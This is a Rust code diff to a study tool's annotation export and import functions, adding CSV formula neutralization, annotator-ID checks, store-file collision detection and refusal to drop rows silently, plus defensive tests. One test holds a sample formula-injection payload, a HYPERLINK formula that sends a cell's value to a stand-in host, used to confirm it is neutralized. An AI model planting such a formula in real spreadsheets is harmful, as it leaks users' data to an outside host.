@@ -327,6 +327,8 @@ pub struct ExportReport {
 /// Write `OUT/packet/` (for the annotator: `sheet.csv`, `packets.json`, one text file per
 /// packet) and `OUT/key.json` (for the study lead).
 pub fn export(set: &ResultSet, opts: &ExportOptions) -> Result<ExportReport, AnnotateError> {
+    sage_trace::safe::check_id(&opts.annotator)
+        .map_err(|m| AnnotateError::Invalid("--annotator".into(), m))?;
     let order = select(set, opts)?;
     let dir = opts.out.join("packet");
     let texts = dir.join("cases");
@@ -359,7 +361,9 @@ pub fn export(set: &ResultSet, opts: &ExportOptions) -> Result<ExportReport, Ann
             .map(|w| format!("turn {}: write {} → {}", w.turn, w.write, w.artefact))
             .collect::<Vec<_>>()
             .join("; ");
-        w.write_record([
+        // Artefact names and CWEs come from the case and its trace: a cell starting with
+        // `=` would run as a formula in the annotator's spreadsheet.
+        let cells = [
             p.packet_id.as_str(),
             opts.annotator.as_str(),
             p.anchor_artefact.as_str(),
@@ -369,25 +373,18 @@ pub fn export(set: &ResultSet, opts: &ExportOptions) -> Result<ExportReport, Ann
             "",
             "",
             "",
-        ])
-        .map_err(|e| io(&sheet_path, e))?;
+        ]
+        .map(|c| sage_llm::secrets::scrubbed(sage_trace::safe::csv_cell(c)));
+        w.write_record(&cells).map_err(|e| io(&sheet_path, e))?;
         let tp = texts.join(format!("{}.md", p.packet_id));
-        std::fs::write(&tp, packet_text(p)).map_err(|e| io(&tp, e))?;
+        std::fs::write(&tp, sage_llm::secrets::scrubbed(packet_text(p))).map_err(|e| io(&tp, e))?;
     }
     w.flush().map_err(|e| io(&sheet_path, e))?;
     let pj = dir.join("packets.json");
     let doc = serde_json::json!({"version": PACKET_VERSION, "annotator": opts.annotator, "packets": packets});
-    std::fs::write(
-        &pj,
-        serde_json::to_string_pretty(&doc).unwrap_or_default() + "\n",
-    )
-    .map_err(|e| io(&pj, e))?;
+    std::fs::write(&pj, crate::report::pretty(&doc)).map_err(|e| io(&pj, e))?;
     let kp = opts.out.join("key.json");
-    std::fs::write(
-        &kp,
-        serde_json::to_string_pretty(&key).unwrap_or_default() + "\n",
-    )
-    .map_err(|e| io(&kp, e))?;
+    std::fs::write(&kp, crate::report::pretty(&key)).map_err(|e| io(&kp, e))?;
     report.packets = packets.len();
     Ok(report)
 }
@@ -493,7 +490,11 @@ pub fn validate_sheet(
         // The file line where the record starts, counted from its byte offset: the csv
         // reader's own line count is off after a quoted field that spans lines (notes).
         let line = rec.position().map_or(0, |p| file_line(text, p.byte()));
-        let get = |c: Option<usize>| c.and_then(|i| rec.get(i)).unwrap_or("").trim().to_string();
+        // a cell sage exported as `'=...` (formula-neutralized) reads back as `=...`
+        let get = |c: Option<usize>| {
+            sage_trace::safe::csv_uncell(c.and_then(|i| rec.get(i)).unwrap_or("").trim())
+                .to_string()
+        };
         let mut problems = Vec::new();
         let case_id = if let Some(id) = Some(get(case_c)).filter(|s| !s.is_empty()) {
             id
@@ -512,8 +513,8 @@ pub fn validate_sheet(
             }
         };
         let annotator = get(ann_c);
-        if annotator.is_empty() {
-            problems.push("annotator is empty".into());
+        if let Err(m) = sage_trace::safe::check_id(&annotator) {
+            problems.push(format!("annotator {annotator:?}: {m}"));
         }
         let provenance = normalize_provenance(&get(prov_c)).unwrap_or_else(|e| {
             problems.push(e);
@@ -571,6 +572,11 @@ pub fn validate_sheet(
 /// Store validated annotations as `STORE/<annotator>.csv` in the format of
 /// `docs/annotations.md` (plus `confirmation`), merging with what is already stored: a new
 /// row for the same case replaces the old one. Returns the files written.
+///
+/// The file name is [`sage_trace::safe::file_stem`] of the annotator, so `R/1` and `R_1` get
+/// files of their own; a store file that holds another annotator's rows, or one whose rows no
+/// longer validate, stops the import with the file and line named (nothing is dropped or
+/// overwritten silently).
 pub fn store(dir: &Path, rows: &[Annotation]) -> Result<Vec<PathBuf>, AnnotateError> {
     std::fs::create_dir_all(dir).map_err(|e| io(dir, e))?;
     let mut by_annotator: BTreeMap<&str, Vec<&Annotation>> = BTreeMap::new();
@@ -580,29 +586,66 @@ pub fn store(dir: &Path, rows: &[Annotation]) -> Result<Vec<PathBuf>, AnnotateEr
             .or_default()
             .push(r);
     }
-    let mut written = Vec::new();
+    if let Some(g) = sage_trace::safe::stem_collisions(by_annotator.keys().copied()).first() {
+        return Err(AnnotateError::Invalid(
+            dir.display().to_string(),
+            format!(
+                "annotators {} differ only in letter case and would share a store file",
+                g.join(", ")
+            ),
+        ));
+    }
+    // Check every file before writing any, so a refused import changes nothing.
+    let mut plans = Vec::new();
     for (annotator, new_rows) in by_annotator {
-        let safe: String = annotator
-            .chars()
-            .map(|c| {
-                if c.is_alphanumeric() || "-_".contains(c) {
-                    c
-                } else {
-                    '_'
-                }
-            })
-            .collect();
-        let path = dir.join(format!("{safe}.csv"));
+        let name = format!("{}.csv", sage_trace::safe::file_stem(annotator));
+        let path = dir.join(&name);
+        let existing = std::fs::read_dir(dir)
+            .map_err(|e| io(dir, e))?
+            .filter_map(|e| e.ok())
+            .map(|e| e.file_name().to_string_lossy().into_owned())
+            .find(|n| n.eq_ignore_ascii_case(&name) && *n != name);
+        if let Some(other) = existing {
+            return Err(AnnotateError::Invalid(
+                path.display().to_string(),
+                format!(
+                    "{other} already stores an annotator whose name differs only in letter case"
+                ),
+            ));
+        }
         let mut merged: BTreeMap<String, Annotation> = BTreeMap::new();
-        if let Ok(text) = std::fs::read_to_string(&path) {
-            let (old, _) = validate_sheet(&text, None, &BTreeMap::new());
+        if path.exists() {
+            let text = std::fs::read_to_string(&path).map_err(|e| io(&path, e))?;
+            let (old, bad) = validate_sheet(&text, None, &BTreeMap::new());
+            if let Some(e) = bad.first() {
+                return Err(AnnotateError::Invalid(
+                    format!("{}:{}", path.display(), e.line),
+                    format!(
+                        "stored row no longer validates ({}); fix or remove it before importing",
+                        e.message
+                    ),
+                ));
+            }
             for a in old {
+                if a.annotator != annotator {
+                    return Err(AnnotateError::Invalid(
+                        path.display().to_string(),
+                        format!(
+                            "holds labels of annotator {:?}, not {annotator:?}",
+                            a.annotator
+                        ),
+                    ));
+                }
                 merged.insert(a.case_id.clone(), a);
             }
         }
         for a in new_rows {
             merged.insert(a.case_id.clone(), a.clone());
         }
+        plans.push((path, merged));
+    }
+    let mut written = Vec::new();
+    for (path, merged) in plans {
         let mut w = csv::Writer::from_path(&path).map_err(|e| io(&path, e))?;
         w.write_record([
             "case_id",
@@ -613,13 +656,16 @@ pub fn store(dir: &Path, rows: &[Annotation]) -> Result<Vec<PathBuf>, AnnotateEr
         ])
         .map_err(|e| io(&path, e))?;
         for a in merged.values() {
-            w.write_record([
-                a.case_id.as_str(),
-                a.annotator.as_str(),
-                a.provenance.as_deref().unwrap_or(""),
-                a.introducing_write.as_deref().unwrap_or(""),
-                a.confirmation.as_deref().unwrap_or(""),
-            ])
+            w.write_record(
+                [
+                    a.case_id.as_str(),
+                    a.annotator.as_str(),
+                    a.provenance.as_deref().unwrap_or(""),
+                    a.introducing_write.as_deref().unwrap_or(""),
+                    a.confirmation.as_deref().unwrap_or(""),
+                ]
+                .map(|c| sage_trace::safe::csv_cell(c).into_owned()),
+            )
             .map_err(|e| io(&path, e))?;
         }
         w.flush().map_err(|e| io(&path, e))?;
@@ -677,5 +723,81 @@ mod tests {
         assert_eq!(ok.len(), 2);
         assert_eq!(bad.len(), 1);
         assert_eq!(bad[0].line, 6, "{:?}", bad[0]);
+    }
+
+    fn row(case: &str, annotator: &str, prov: &str) -> Annotation {
+        Annotation {
+            case_id: case.into(),
+            annotator: annotator.into(),
+            provenance: Some(prov.into()),
+            introducing_write: None,
+            confirmation: None,
+        }
+    }
+
+    #[test]
+    fn attack_annotators_r_slash_1_and_r_underscore_1_share_a_store() {
+        let d = tempfile::tempdir().unwrap();
+        store(d.path(), &[row("c1", "R/1", "inherited")]).unwrap();
+        store(d.path(), &[row("c1", "R_1", "agent-introduced")]).unwrap();
+        let files: Vec<String> = std::fs::read_dir(d.path())
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .collect();
+        assert_eq!(files.len(), 2, "{files:?}");
+        // the first annotator's label survived the second import
+        let text = std::fs::read_to_string(d.path().join("R~2F1.csv")).unwrap();
+        assert!(text.contains("c1,R/1,inherited"), "{text}");
+        // a store file holding somebody else's rows is refused, not merged into
+        std::fs::write(
+            d.path().join("R2.csv"),
+            "case_id,annotator,provenance,introducing_write,confirmation\nc1,R9,inherited,,\n",
+        )
+        .unwrap();
+        let e = store(d.path(), &[row("c2", "R2", "inherited")]).unwrap_err();
+        assert!(e.to_string().contains("R9"), "{e}");
+    }
+
+    #[test]
+    fn attack_a_stored_row_that_no_longer_validates_is_dropped_silently() {
+        let d = tempfile::tempdir().unwrap();
+        let p = d.path().join("R1.csv");
+        std::fs::write(
+            &p,
+            "case_id,annotator,provenance,introducing_write,confirmation\n\
+             c1,R1,inherited,,\nc2,R1,sideways,,\n",
+        )
+        .unwrap();
+        let before = std::fs::read_to_string(&p).unwrap();
+        let e = store(d.path(), &[row("c3", "R1", "inherited")])
+            .unwrap_err()
+            .to_string();
+        assert!(e.contains("R1.csv:3") && e.contains("sideways"), "{e}");
+        // nothing was rewritten
+        assert_eq!(std::fs::read_to_string(&p).unwrap(), before);
+    }
+
+    #[test]
+    fn attack_sheet_cells_starting_with_equals_run_as_formulas() {
+        // the store neutralizes what it writes and reads it back exactly
+        let d = tempfile::tempdir().unwrap();
+        let evil = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
+        store(
+            d.path(),
+            &[row(evil, "R1", "inherited"), row("-2+3", "R1", "inherited")],
+        )
+        .unwrap();
+        let text = std::fs::read_to_string(d.path().join("R1.csv")).unwrap();
+        for line in text.lines().skip(1) {
+            let first = line.trim_start_matches('"');
+            assert!(!first.starts_with(['=', '+', '-', '@']), "{line}");
+        }
+        let (back, bad) = validate_sheet(&text, None, &BTreeMap::new());
+        assert!(bad.is_empty(), "{bad:?}");
+        let ids: Vec<&str> = back.iter().map(|a| a.case_id.as_str()).collect();
+        assert!(ids.contains(&evil) && ids.contains(&"-2+3"), "{ids:?}");
+        let (parsed, errs) = sage_reliability::annotations::parse_annotations(&text);
+        assert!(errs.is_empty(), "{errs:?}");
+        assert_eq!(parsed.len(), 1);
     }
 }
